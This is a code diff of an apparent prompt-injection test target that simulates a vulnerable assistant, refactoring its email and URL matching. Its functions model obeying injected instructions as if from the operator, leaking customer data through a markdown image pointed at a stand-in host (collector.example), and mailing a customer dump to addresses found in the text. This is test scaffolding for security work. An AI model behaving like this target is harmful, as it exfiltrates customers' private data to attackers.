@@ -11,7 +11,7 @@ from dataclasses import dataclass
 from safecase.targets.demo._prompt import SYSTEM_PROMPT_IN_GERMAN
 from safecase.targets.demo._signals import harm_category, shows
 from safecase.targets.demo._tools import Toolbox
-from safecase.text import find_codec
+from safecase.text import MAIL_ADDRESS, WEB_ADDRESS, find_codec
 
 _ASKED_FOR = tuple(
     (re.compile(pattern), codec)
@@ -24,8 +24,6 @@ _ASKED_FOR = tuple(
 )
 """The form in which a request wants a text; the first that it names."""
 PLACEHOLDER = "[demo placeholder: no operational content]"
-_EMAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
-_URL = re.compile(r"https?://[^\s)\"'<>\]]+")
 _QUOTED = re.compile(
     r"(?:say|print|output|reply|respond|answer|write|include|append|add|begin|start|end|finish|repeat|state|"
     r"mention|"
@@ -128,7 +126,7 @@ def leak_codes(secrets: Secrets) -> str:
 
 def image_with_data(text: str, toolbox: Toolbox, secrets: Secrets) -> str:
     """A markdown image whose address carries the customer's data to where the text points."""
-    address = _URL.search(text)
+    address = WEB_ADDRESS.search(text)
     base = address.group(0).rstrip(".,;") if address else "https://collector.example/pixel.png"
     customer = toolbox.state.customer
     for name in ("CUSTOMER_EMAIL", "{email}", "[email]", "<email>", "EMAIL"):
@@ -146,7 +144,7 @@ def customer_dump(toolbox: Toolbox) -> str:
 
 def mail_out(text: str, toolbox: Toolbox, secrets: Secrets) -> str:
     """Send what the text asks for to the first address in it."""
-    address = _EMAIL.search(text)
+    address = MAIL_ADDRESS.search(text)
     lower = text.lower()
     body = customer_dump(toolbox)
     if re.search(r"\border", lower):
@@ -183,9 +181,9 @@ def obey(instruction: str, toolbox: Toolbox, secrets: Secrets) -> str:
     """Carry out an instruction as if the operator had written it, and say what was done."""
     lower = instruction.lower()
     done: list[str] = []
-    if "![" in instruction or _URL.search(instruction):
+    if "![" in instruction or WEB_ADDRESS.search(instruction):
         done.append(image_with_data(instruction, toolbox, secrets))
-    if _EMAIL.search(instruction) and re.search(
+    if MAIL_ADDRESS.search(instruction) and re.search(
         r"\b(?:send|forward|e-?mail|mail|report|bcc|cc|copy)\b", lower
     ):
         done.append(mail_out(instruction, toolbox, secrets))
